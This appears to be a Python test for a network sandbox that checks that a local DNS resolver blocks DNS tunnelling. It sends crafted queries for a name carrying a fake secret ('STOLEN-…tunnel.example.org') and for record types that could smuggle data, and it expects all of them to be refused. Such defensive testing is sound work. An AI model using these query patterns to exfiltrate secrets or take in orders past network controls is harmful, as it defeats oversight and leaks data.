"""Carry a secret out in names that are looked up, or bring orders in with the answers: no query may leave.

Source: RFC 1035; the resolver inside answers by the policy alone.
"""

import socket

from attempt import denied, works
from talk import neighbour

WAYS = ("run", "shell")
LISTED = ("localhost:{port}", "files.example.com:{port}")


def _ask(name, kind=1):
    """One question over UDP; the answers that came, for a refusal is none."""
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    query = (
        b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
        + labels
        + b"\0"
        + kind.to_bytes(2, "big")
        + b"\0\x01"
    )
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(5)
        client.sendto(query, ("127.0.0.1", 53))
        reply = client.recv(4096)
    count = int.from_bytes(reply[6:8], "big")
    if not count:
        raise OSError(f"response code {reply[3] & 15}")
    return count


def inside():
    for kind, number in (
        ("A", 1),
        ("NS", 2),
        ("CNAME", 5),
        ("NULL", 10),
        ("TXT", 16),
        ("AAAA", 28),
        ("ANY", 255),
    ):
        denied(
            f"{kind} of a name that carries a secret",
            lambda n=number: _ask("STOLEN-0123456789.tunnel.example.org", n),
        )
    for kind, number in (("TXT", 16), ("NULL", 10), ("HTTPS", 65), ("SRV", 33)):
        denied(f"{kind} of a listed name", lambda n=number: _ask("files.example.com", n))
    denied("a name below a listed one", lambda: _ask("STOLEN.files.example.com"))
    denied("another resolver", lambda: socket.create_connection(("192.0.2.53", 53), 5))
    works("the address of a listed name", lambda: _ask("files.example.com"))
    works("the listed host by its name", neighbour)
